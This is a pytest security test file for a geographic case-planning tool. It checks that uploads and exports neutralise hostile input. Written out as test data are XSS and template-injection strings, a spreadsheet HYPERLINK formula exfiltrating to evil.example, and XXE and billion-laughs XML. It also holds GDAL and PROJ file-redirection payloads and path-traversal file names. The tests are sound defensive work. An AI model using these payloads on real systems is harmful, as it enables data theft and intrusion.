"""Hostile input, engine side: every text field is shown as text (map, PDF, HTML), exports
cannot run formulas, XML cannot reach outside the file, uploads are limited and a damaged or
oversized GeoPackage is refused cleanly, and an upload's name cannot leave its folder.
"""

from __future__ import annotations

import io
import re

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
import shapely
from pypdf import PdfReader

from geo import io as geo_io
from geo.access import redact
from geo.agreement import agreement_html, agreement_pdf, build_agreement
from geo.errors import InputError
from geo.io import csv_safe, file_in, import_file, read_case, read_rows, safe_filename, write_case
from geo.maps import case_map
from geo.meeting import meeting_case
from geo.model import LAYERS, validate_case
from geo.network import load_graph
from geo.rank import assess_case, rank
from geo.settings import Settings
from geo.sources import policy_for_case
from geo.zones import exclusion_zones
from tests.geo.conftest import NOW

EVIL = "<script>alert('x')</script><img src=x onerror=alert(1)>**b** & \"q\""
RAW = ("<script>alert(", "<img src=x", "onerror=alert(1)>")


def text_columns(layer: str) -> list[str]:
    return [c.name for c in LAYERS[layer].columns if c.kind == "text"]


#: Jinja syntax: folium's renderer compiles element scripts as templates, so this must stay text
JINJA = "{{ 7*7 }} {% raw %} {# c #} {{ cycler.__init__.__globals__ }}"


def case_with_text(case, text: str):
    """Every free-text column of every layer holds ``text``, tagged with where it is."""
    layers = {}
    for name in LAYERS:
        frame = case[name].copy()
        for col in text_columns(name):
            if len(frame):
                frame[col] = [f"{text} {name}.{col}.{i}" for i in range(len(frame))]
        layers[name] = frame
    layers["boundaries"] = gpd.GeoDataFrame(
        {"name": [f"{text} boundary"], "code": [f"{text} code"], "kind": ["ward"]},
        geometry=[shapely.box(379_000, 393_000, 396_000, 403_000)], crs=27700)
    return validate_case(layers, now=NOW).raise_if_fatal()


@pytest.fixture
def evil_case(rich_case):
    return case_with_text(rich_case, EVIL)


def assert_no_markup(html: str) -> None:
    for raw in RAW:
        assert raw not in html, raw
        # nor the same markup inside the page's JSON, where the browser would insert it as
        # HTML (a popup, a layer name in the layer control)
        assert raw.replace("<", "\\u003c").replace(">", "\\u003e") not in html, raw


def test_every_text_field_is_text_on_the_map(evil_case):
    policy = policy_for_case(evil_case)
    ranked = rank(assess_case(evil_case, policy, as_of=NOW, person_ids=["P2", "P3"]))
    zones = exclusion_zones(evil_case, policy, as_of=NOW)
    html = case_map(evil_case, policy=policy, zones=zones, ranked=ranked,
                    as_of=NOW).get_root().render()
    assert_no_markup(html)
    # shown, escaped for HTML then encoded for the page's script
    escaped = (r"\\u0026lt;script\\u0026gt;alert\(\\u0026#x27;x\\u0026#x27;\)"
               r"\\u0026lt;/script\\u0026gt;\\u0026lt;img src=x onerror=alert\(1\)"
               r"\\u0026gt;\*\*b\*\* \\u0026amp; \\u0026quot;q\\u0026quot; ")
    shown = re.findall(escaped + r"([a-z_]+\.[a-z_]+)", html)
    assert {"addresses.label", "incidents.description", "candidates.label", "zones.reason",
            "groups.name"} <= set(shown)


def test_template_syntax_in_any_field_is_text_not_code(rich_case):
    case = case_with_text(rich_case, JINJA)
    policy = policy_for_case(case)
    ranked = rank(assess_case(case, policy, as_of=NOW, person_ids=["P2", "P3"]))
    html = case_map(case, policy=policy, zones=exclusion_zones(case, policy, as_of=NOW),
                    ranked=ranked, as_of=NOW).get_root().render()  # {% raw %} does not break it
    assert "__globals__ }}" not in html
    assert "<built-in" not in html
    assert "49 " not in html
    # shown as text: braces as character references, then encoded for the page's script
    text = JINJA.replace("{", "&#123;").replace("}", "&#125;").replace("&", "\\u0026")
    shown = re.findall(re.escape(text) + r" ([a-z_]+\.[a-z_]+)\.", html)
    assert {"addresses.label", "incidents.description", "candidates.label", "zones.reason",
            "groups.name"} <= set(shown)


@pytest.mark.parametrize("view", ["housing", "social_worker", "meeting"])
def test_restricted_and_meeting_maps_show_markup_as_text_too(evil_case, view):
    case = meeting_case(evil_case).case if view == "meeting" else redact(evil_case, view).case
    assert_no_markup(case_map(case, as_of=NOW).get_root().render())


@pytest.fixture
def evil_agreement(evil_case):
    people = evil_case["people"].copy()
    people.loc[people["person_id"] == "P2", "label"] = f"Pat {EVIL}"
    case = evil_case.replace(people=people)
    return build_agreement(case, "P2", policy_for_case(case), worker=f"Jo {EVIL}",
                           review="2027-02-01", as_of=NOW)


def test_the_agreement_pdf_prints_markup_as_literal_text(evil_agreement):
    reader = PdfReader(io.BytesIO(agreement_pdf(evil_agreement)))
    words = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    squashed = words.replace(" ", "")
    literal = EVIL.replace(" ", "")
    assert squashed.count(literal) >= 3  # the person, the worker, the zone's reason
    assert "zones.reason" in words
    assert not reader.attachments
    for page in reader.pages:  # no scripts, actions or links in the document
        assert "/JS" not in str(page.get("/AA", ""))
        assert "/Annots" not in page
    assert "/JavaScript" not in str(reader.trailer["/Root"])


def test_the_agreement_html_escapes_every_field(evil_agreement):
    page = agreement_html(evil_agreement)
    assert_no_markup(page)
    escaped = ("&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;&lt;img src=x "
               "onerror=alert(1)&gt;**b** &amp; &quot;q&quot;")
    assert page.count(escaped) >= 3


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_exports_neutralise_formulas_in_every_text_column(tmp_path, start):
    formula = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    frame = pd.DataFrame({"label": [formula, "Flat 2"], "notes": ["ok", formula],
                          "score": [-1.5, 2.0], "n": [-3, 4]})
    frame["typed"] = pd.Series([formula, None], dtype="string")
    path = geo_io.write_table(frame, tmp_path / "out.csv")
    back = pd.read_csv(path, keep_default_na=False)
    for col in ("label", "notes", "typed"):
        cell = next(v for v in back[col] if "HYPERLINK" in str(v))
        assert cell.startswith("'"), (col, cell)  # a spreadsheet shows it as text
        assert cell.endswith('"click")')
    assert back["score"].tolist() == [-1.5, 2.0]  # numbers stay numbers
    assert back["n"].tolist() == [-3, 4]
    assert csv_safe(pd.DataFrame({"x": ["Flat 2", "A=B"]}))["x"].tolist() == ["Flat 2", "A=B"]


# ---------------------------------------------------------------------------------------------
# XML


XXE_KML = (
    '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&xxe;</name>'
    "<Point><coordinates>-2.24,53.48</coordinates></Point></Placemark></kml>"
)
LAUGHS_KML = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&lol3;</name>'
    "<Point><coordinates>-2.24,53.48</coordinates></Point></Placemark></kml>"
)
DTD_ONLY_KML = (
    '<?xml version="1.0"?><!DOCTYPE kml SYSTEM "http://evil.example/kml.dtd">'
    '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>x</name>'
    "<Point><coordinates>-2.24,53.48</coordinates></Point></Placemark></kml>"
)


@pytest.mark.parametrize("content", [XXE_KML, LAUGHS_KML, DTD_ONLY_KML],
                         ids=["external-entity", "billion-laughs", "external-dtd"])
def test_kml_with_a_dtd_or_entities_is_refused(tiny_case, tmp_path, content, block_network):
    f = tmp_path / "evil.kml"
    f.write_text(content)
    with pytest.raises(InputError, match=r"evil\.kml: KML with a DTD or entities is refused"):
        import_file(tiny_case, "candidates", f)
    assert block_network == []  # nothing was fetched


@pytest.mark.parametrize("suffix", [".osm", ".graphml"])
@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    '<!doctype x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
])
def test_street_files_with_a_dtd_are_refused(tmp_path, suffix, doctype):
    root = "osm" if suffix == ".osm" else "graphml"
    f = tmp_path / f"streets{suffix}"
    f.write_text(f'<?xml version="1.0"?>{doctype}<{root}></{root}>')
    with pytest.raises(InputError, match=rf"streets{suffix}: XML with a DTD or entities is "
                                         "refused"):
        load_graph(f, mode="drive")


def test_a_dtd_hidden_behind_a_comment_is_still_refused(tmp_path):
    f = tmp_path / "streets.osm"
    f.write_text('<?xml version="1.0"?><!-- <osm -->'
                 '<!DOCTYPE osm [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                 '<osm version="0.6"><node id="1" lat="53.4" lon="-2.2"/></osm>')
    with pytest.raises(InputError, match=r"streets\.osm: XML with a DTD or entities is refused"):
        load_graph(f, mode="drive")


# ---------------------------------------------------------------------------------------------
# files that tell GDAL to read something else


SECRET = "TOPSECRET-77"


def gdal_redirections(tmp_path) -> dict[str, str]:
    """Files that GDAL would read as instructions to open another source: a local file here,
    but the same works with /vsicurl/ URLs."""
    secret = tmp_path / "secret.csv"
    secret.write_text(f"candidate_id,label,lon,lat\nS1,{SECRET},-2.24,53.48\n")
    vrt = (f"<OGRVRTDataSource><OGRVRTLayer name='candidates'><SrcDataSource>{secret}"
           "</SrcDataSource><GeometryType>wkbPoint</GeometryType><GeometryField "
           "encoding='PointFromColumns' x='lon' y='lat'/></OGRVRTLayer></OGRVRTDataSource>")
    gdalg = ('{"type": "gdal_streamed_alg", "command_line": "gdal vector pipeline read '
             f'{secret} ! write --output-format stream streamed_dataset"}}')
    remote = vrt.replace(str(secret), "/vsicurl/http://192.0.2.1/secret.csv")
    return {"vrt": vrt, "gdalg": gdalg, "vsicurl": remote}


@pytest.mark.parametrize("kind", ["vrt", "gdalg", "vsicurl"])
@pytest.mark.parametrize("suffix", [".geojson", ".json", ".gpkg"])
def test_an_upload_cannot_make_gdal_read_another_source(tiny_case, tmp_path, kind, suffix,
                                                        block_network):
    f = tmp_path / f"vacancies{suffix}"
    f.write_text(gdal_redirections(tmp_path)[kind])
    with pytest.raises(InputError) as info:
        import_file(tiny_case, "candidates", f)
    assert str(info.value).startswith(f"vacancies{suffix}: not ")
    assert SECRET not in str(info.value)
    if suffix == ".gpkg":
        with pytest.raises(InputError, match=f"vacancies{suffix}: not a GeoPackage"):
            read_case(f)
    assert block_network == []


def test_a_database_that_is_not_a_geopackage_is_refused(tiny_case, tmp_path):
    import sqlite3

    f = tmp_path / "store.gpkg"  # an SQLite database (a store, say) renamed
    with sqlite3.connect(f) as db:
        db.execute("CREATE TABLE users (name TEXT, hash TEXT)")
        db.execute("INSERT INTO users VALUES ('admin', ?)", (SECRET,))
    with pytest.raises(InputError, match=r"store\.gpkg: not a GeoPackage that can be read"):
        import_file(tiny_case, "candidates", f)
    with pytest.raises(InputError, match=r"store\.gpkg: not a GeoPackage that can be read"):
        read_case(f)


@pytest.mark.parametrize("definition", [
    'GEOGCS["x",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0]'
    ',UNIT["degree",0.0174532925199433],EXTENSION["PROJ4","+proj=longlat +ellps=WGS84 '
    '+nadgrids={secret} +no_defs"]]',
    'GEOGCS["x",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0]'
    ',UNIT["degree",0.0174532925199433],EXTENSION["PROJ4","+init={secret}:1"]]',
    'BOUNDCRS[SOURCECRS[GEOGCRS["x",DATUM["d",ELLIPSOID["WGS 84",6378137,298.257223563]],'
    'CS[ellipsoidal,2],AXIS["lat",north,ANGLEUNIT["degree",0.0174532925199433]],AXIS["lon",east,'
    'ANGLEUNIT["degree",0.0174532925199433]]]],TARGETCRS[GEOGCRS["WGS 84",DATUM["WGS84",'
    'ELLIPSOID["WGS 84",6378137,298.257223563]],CS[ellipsoidal,2],AXIS["lat",north,'
    'ANGLEUNIT["degree",0.0174532925199433]],AXIS["lon",east,ANGLEUNIT["degree",'
    '0.0174532925199433]]]],ABRIDGEDTRANSFORMATION["t",METHOD["NTv2"],PARAMETERFILE['
    '"Latitude and longitude difference file","{secret}"]]]',
])
def test_a_geopackage_whose_crs_names_a_file_is_refused(tiny_case, tmp_path, definition):
    """A coordinate system can name a grid or parameter file, which PROJ would open (any
    path on the server, even /dev/stdin, which hangs the reader)."""
    import sqlite3

    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    f = write_case(tiny_case, tmp_path / "crs.gpkg")
    with sqlite3.connect(f) as db:
        db.execute("INSERT INTO gpkg_spatial_ref_sys(srs_name, srs_id, organization, "
                   "organization_coordsys_id, definition) VALUES ('x', 99999, 'NONE', 99999, ?)",
                   (definition.format(secret=secret),))
        db.execute("UPDATE gpkg_geometry_columns SET srs_id = 99999 WHERE table_name = "
                   "'candidates'")
        db.execute("UPDATE gpkg_contents SET srs_id = 99999 WHERE table_name = 'candidates'")
    message = r"crs\.gpkg: a coordinate system in it refers to a file or another source"
    with pytest.raises(InputError, match=message):
        read_case(f)
    with pytest.raises(InputError, match=message):
        import_file(tiny_case, "candidates", f)


def test_a_graphml_whose_crs_names_a_file_is_refused(tmp_path):
    f = tmp_path / "streets.graphml"
    f.write_text('<?xml version="1.0"?><graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
                 '<key id="d0" for="graph" attr.name="crs" attr.type="string"/><graph '
                 'edgedefault="directed"><data key="d0">+proj=longlat +nadgrids=/dev/stdin'
                 '</data></graph></graphml>')
    with pytest.raises(InputError, match=r"streets\.graphml: its coordinate system refers to "
                                         "a file"):
        load_graph(f, mode="walk")


@pytest.mark.parametrize(("suffix", "content", "message"), [
    (".geojson", "[" * 100_000 + "]" * 100_000, "not valid GeoJSON (nested too deeply)"),
    (".geojson", '{"type": "FeatureCollection", "crs": {"properties": ["x"]}, "features": '
                 '[{"type": "Feature", "properties": {"candidate_id": "C9", "label": "x", '
                 '"geometry": 1}, "geometry": {"type": "Point", "coordinates": [-2.2, 53.4]}}]}',
     "a property is called 'geometry'"),
    (".kml", '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>x</name>'
             + "<MultiGeometry>" * 3000 + "<Point><coordinates>-2.2,53.4</coordinates></Point>"
             + "</MultiGeometry>" * 3000 + "</Placemark></Document></kml>",
     "not readable KML (geometry nested too deeply)"),
])
def test_deeply_nested_or_odd_files_are_refused_in_one_line(tmp_path, suffix, content, message):
    f = tmp_path / f"odd{suffix}"
    f.write_text(content)
    with pytest.raises(InputError, match=re.escape(f"odd{suffix}: {message}")):
        read_rows(f, "candidates")


def test_gdal_formats_that_reach_elsewhere_are_switched_off():
    import subprocess
    import sys

    code = ("import geo, pyogrio; "
            "print(sorted(set(geo.GDAL_SKIPPED) & set(pyogrio.list_drivers())))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True)
    assert out.stdout.strip() == "[]"


def test_geojson_uploads_are_read_without_gdal(tiny_case, tmp_path, monkeypatch):
    f = tmp_path / "vacancies.geojson"
    f.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", '
                 '"properties": {"candidate_id": "G1", "label": "Flat <b>1</b>"}, '
                 '"geometry": {"type": "Point", "coordinates": [-2.24487, 53.48377]}}]}')

    def never(*args, **kwargs):
        raise AssertionError("GDAL opened an uploaded GeoJSON")

    monkeypatch.setattr(geo_io.pyogrio, "read_dataframe", never)
    monkeypatch.setattr(geo_io.pyogrio, "read_info", never)
    merged, _ = import_file(tiny_case, "candidates", f)
    row = merged["candidates"].set_index("candidate_id").loc["G1"]
    assert row["label"] == "Flat <b>1</b>"
    assert row.geometry.distance(shapely.Point(383_848, 398_589)) < 5


# ---------------------------------------------------------------------------------------------
# size and row limits, damaged files


def candidates_frame(n: int) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"candidate_id": [f"N{i}" for i in range(n)], "label": ["x"] * n},
        geometry=[shapely.Point(383_848 + i, 398_589) for i in range(n)], crs=27700)


def write_upload(tmp_path, kind: str, n: int):
    if kind == "csv":
        f = tmp_path / "big.csv"
        f.write_text("candidate_id,label,postcode\n" + "".join(f"N{i},x,M1 1AD\n"
                                                              for i in range(n)))
    elif kind == "geojson":
        f = tmp_path / "big.geojson"
        pyogrio.write_dataframe(candidates_frame(n).to_crs(4326), f, driver="GeoJSON")
    elif kind == "gpkg":
        f = tmp_path / "big.gpkg"
        pyogrio.write_dataframe(candidates_frame(n), f, layer="candidates", driver="GPKG")
    else:
        f = tmp_path / "big.kml"
        marks = "".join(f"<Placemark><name>N{i}</name><Point><coordinates>-2.24,53.48"
                        "</coordinates></Point></Placemark>" for i in range(n))
        f.write_text('<kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
                     f"{marks}</Document></kml>")
    return f


@pytest.mark.parametrize("kind", ["csv", "geojson", "gpkg", "kml"])
def test_uploads_over_the_size_limit_are_refused(tiny_case, tmp_path, kind):
    f = write_upload(tmp_path, kind, 30)
    with pytest.raises(InputError, match=rf"{f.name}: \d+\.\d MB is over the limit of "
                                         r"0\.0001 MB"):
        import_file(tiny_case, "candidates", f, settings=Settings(max_upload_mb=0.0001))


@pytest.mark.parametrize("kind", ["csv", "geojson", "gpkg", "kml"])
def test_uploads_over_the_row_limit_are_refused(tiny_case, tmp_path, kind):
    f = write_upload(tmp_path, kind, 30)
    with pytest.raises(InputError, match=rf"{f.name}: .*30 rows.* over the limit of 10"):
        import_file(tiny_case, "candidates", f, settings=Settings(max_upload_rows=10))


@pytest.mark.parametrize("kind", ["geojson", "gpkg"])
def test_a_huge_layer_is_refused_before_it_is_read(tiny_case, tmp_path, kind, monkeypatch):
    f = write_upload(tmp_path, kind, 30)

    def never(*args, **kwargs):
        raise AssertionError("the layer was read")

    monkeypatch.setattr(geo_io.pyogrio, "read_dataframe", never)
    with pytest.raises(InputError, match=f"{f.name}: (layer 'candidates'|the file) has 30 rows, "
                                         "over the limit of 10; nothing was read"):
        read_rows(f, "candidates", settings=Settings(max_upload_rows=10))


def test_a_case_file_with_a_huge_layer_is_refused_before_it_is_read(tiny_case, tmp_path,
                                                                      monkeypatch):
    big = tiny_case.replace(candidates=candidates_frame(30))
    path = write_case(big, tmp_path / "case.gpkg")
    monkeypatch.setattr(geo_io.pyogrio, "read_dataframe",
                        lambda *a, **k: pytest.fail("the layer was read"))
    with pytest.raises(InputError, match=r"case\.gpkg: layer 'candidates' has 30 rows, over "
                                         r"the limit of 10; nothing was read"):
        read_case(path, settings=Settings(max_upload_rows=10))


def damaged_files(tmp_path, tiny_case):
    good = write_case(tiny_case, tmp_path / "good.gpkg").read_bytes()
    yield "noise.gpkg", b"\x00\x01 not a database at all" * 50
    yield "truncated.gpkg", good[: len(good) // 3]
    yield "scrambled.gpkg", good[:4096] + bytes(reversed(good[4096:]))
    yield "empty.gpkg", b""
    import sqlite3

    other = tmp_path / "plain.sqlite"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE invoices (id integer)")
    yield "plain.gpkg", other.read_bytes()


@pytest.mark.parametrize("which", ["noise", "truncated", "scrambled", "empty", "plain"])
def test_a_damaged_geopackage_is_refused_cleanly(tiny_case, tmp_path, which):
    files = dict(damaged_files(tmp_path, tiny_case))
    f = tmp_path / f"{which}.gpkg"
    f.write_bytes(files[f.name])
    for attempt in (lambda: read_case(f),
                    lambda: import_file(tiny_case, "candidates", f)):
        with pytest.raises(InputError) as caught:
            attempt()
        message = str(caught.value)
        assert message.startswith(f"{f.name}: ")
        assert "\n" not in message
        assert "Traceback" not in message


@pytest.mark.parametrize("which", ["noise", "truncated", "plain"])
def test_a_damaged_case_file_is_one_line_from_the_command(tiny_case, tmp_path, which):
    import subprocess
    import sys

    files = dict(damaged_files(tmp_path, tiny_case))
    f = tmp_path / f"{which}.gpkg"
    f.write_bytes(files[f.name])
    done = subprocess.run([sys.executable, "-m", "geo.cli", "validate", str(f)],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1, done.stderr
    assert done.stderr.startswith(f"safeplan validate: {f.name}: ")


def test_a_geopackage_without_the_layer_says_which_it_has(tiny_case, tmp_path):
    f = tmp_path / "other.gpkg"
    pyogrio.write_dataframe(candidates_frame(2), f, layer="vacancies", driver="GPKG")
    with pytest.raises(InputError, match=r"other.gpkg: has no layer 'candidates' to import "
                                         r"\(its layers: vacancies\)"):
        import_file(tiny_case, "candidates", f)


# ---------------------------------------------------------------------------------------------
# upload names


@pytest.mark.parametrize(("name", "safe"), [
    ("../../etc/passwd", "passwd"),
    ("..\\..\\Windows\\system.ini", "system.ini"),
    ("/abs/path/vacancies.csv", "vacancies.csv"),
    ("..", "upload"),
    ("", "upload"),
    (".hidden.csv", "hidden.csv"),
    ("a/../../b.CSV", "b.csv"),
    ("C:\\temp\\x.kml", "x.kml"),
    ("evil\x00.csv", "evil.csv"),
    ("<script>.gpkg", "script.gpkg"),
    ("x." + "a" * 40, "x.aaaaaaaaaa"),
    ("Stretford extract.OSM.GZ", "Stretford_extract.osm.gz"),
    ("../streets.osm.bz2", "streets.osm.bz2"),
    (".osm.gz", "upload.osm.gz"),
])
def test_an_upload_name_cannot_leave_its_folder(tmp_path, name, safe):
    assert safe_filename(name) == safe
    target = file_in(tmp_path, name)
    assert target.parent == tmp_path.resolve()
    assert target.name == safe


def test_the_apps_upload_folder_keeps_names_inside_it(tmp_path):
    from ui.uploads import safe_name, saved_upload

    class Upload:
        name = "../../../../tmp/escape.csv"

        @staticmethod
        def getvalue() -> bytes:
            return b"candidate_id,label\n"

    assert safe_name(Upload.name) == "escape.csv"
    with saved_upload(Upload(), Settings()) as path:
        assert path.name == "escape.csv"
        assert path.parent.name.startswith("safeplan-upload-")
        assert path.read_bytes() == b"candidate_id,label\n"
    assert not path.exists()
